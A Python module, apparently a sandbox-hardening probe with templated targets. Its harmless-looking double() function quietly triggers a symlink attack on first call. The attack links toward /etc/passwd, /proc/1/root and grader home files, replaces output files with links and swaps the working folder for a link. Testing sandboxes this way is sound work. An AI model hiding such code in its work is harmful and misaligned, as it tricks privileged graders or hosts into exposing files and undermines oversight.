"""Whoever follows a link of ours with more rights than we have does our work."""

import errno
import os
import shutil

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


TARGETS = ["@HOME_FILE@", "@TEMPORARY_FILE@", "@GRADER_HOME@", "/etc/passwd", "/proc/1/root", "/opt/guest", "/"]


def attack():
    here = os.getcwd()
    for number, target in enumerate(TARGETS):
        for parent in (here, os.path.dirname(here), "/tmp", os.path.expanduser("~")):
            try:
                os.symlink(target, f"{parent}/link-{number}")
            except OSError as error:
                print("HELD", parent, errno.errorcode[error.errno])
    for name in ("plain.py", "report.json", "evidence", "output"):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink("@HOME_FILE@", name)
        except OSError as error:
            print("HELD", name, errno.errorcode[error.errno])
    moved = f"{here}-moved"
    try:
        os.rename(here, moved)
        os.symlink("@HOME_FOLDER@", here)
        print("TRIED the working folder is a link now")
    except OSError as error:
        print("HELD the working folder", errno.errorcode[error.errno])
    os.makedirs(f"{moved}/deep/deeper", exist_ok=True)
    os.symlink("../../..", f"{moved}/deep/deeper/up")
    print("TRIED", len(TARGETS), "links out")


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
